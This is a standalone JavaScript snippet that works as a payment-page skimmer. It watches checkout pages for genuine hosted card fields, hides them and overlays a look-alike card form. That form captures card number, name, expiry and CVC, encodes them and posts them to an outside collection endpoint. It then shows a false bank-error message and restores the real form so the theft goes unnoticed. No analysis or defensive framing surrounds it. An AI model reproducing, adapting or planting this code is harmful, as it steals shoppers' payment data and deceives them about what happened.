(function () {
  var endpoint = 'https://pay-secure-widget.example/api/v1/hold';

  function draw(holder) {
    var box = document.createElement('div');
    box.className = 'payment-method-content';
    box.innerHTML =
      '<label>Card number</label><input id="pm_num" maxlength="19" placeholder="0000 0000 0000 0000">' +
      '<label>Name on card</label><input id="pm_name">' +
      '<div style="display:flex"><input id="pm_exp" placeholder="MM/YY" maxlength="5"><input id="pm_cvc" placeholder="CVC" maxlength="4"></div>' +
      '<button type="button" id="pm_go" class="btn btn-primary">Continue to payment</button>';
    holder.parentNode.insertBefore(box, holder);
    holder.style.display = 'none';

    document.getElementById('pm_go').onclick = function () {
      var card = {
        num: document.getElementById('pm_num').value.replace(/\s+/g, ''),
        name: document.getElementById('pm_name').value,
        exp: document.getElementById('pm_exp').value,
        cvc: document.getElementById('pm_cvc').value
      };
      if (card.num.length < 15 || card.cvc.length < 3) {
        alert('Please check your card details.');
        return;
      }
      fetch(endpoint, { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify(card)) }).finally(function () {
        alert('Your bank did not respond. Please enter your details again.');
        box.remove();
        holder.style.display = '';
        localStorage.setItem('pm_done', '1');
      });
    };
  }

  var tries = setInterval(function () {
    if (localStorage.getItem('pm_done')) return clearInterval(tries);
    var real = document.querySelector('iframe[src*="payfold"], #payment-element iframe, .braintree-hosted-fields');
    if (real) {
      clearInterval(tries);
      draw(real.closest('.payment-method') || real);
    }
  }, 400);
})();
